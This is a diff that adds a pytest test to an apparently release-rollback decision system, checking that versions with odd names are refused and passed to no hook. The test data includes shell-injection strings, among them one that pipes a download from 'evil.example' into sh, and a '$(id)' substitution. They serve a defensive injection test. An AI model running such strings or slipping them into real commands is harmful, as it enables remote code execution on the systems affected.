@@ -293,6 +293,14 @@ def test_a_card_without_a_release_cannot_be_rolled_back() -> None:
     assert decide(situation("rollback", on)).outcome == "refused"
 
 
+@pytest.mark.parametrize("release", ['1.2.4"; curl evil.example | sh; "', "$(id)", "-rf", "1 2", "v1\n", "версия"])
+def test_a_release_with_an_odd_name_is_handed_to_no_hook(release: str) -> None:
+    """Whoever writes an event writes its version, and a shell may meet it in the hook; a form refuses the same."""
+    on = card("release", "deployed", release=release, current_release=release)
+    decision = decide(situation("rollback", on, drawn_for=release))
+    assert (decision.outcome, decision.hook) == ("refused", None)
+
+
 def test_who_came_late_is_told_so_before_he_is_told_who_may() -> None:
     """A stranger learns that there is nothing left to do."""
     on = card("release", "rolling_back", {"rollback": person(BOB)})
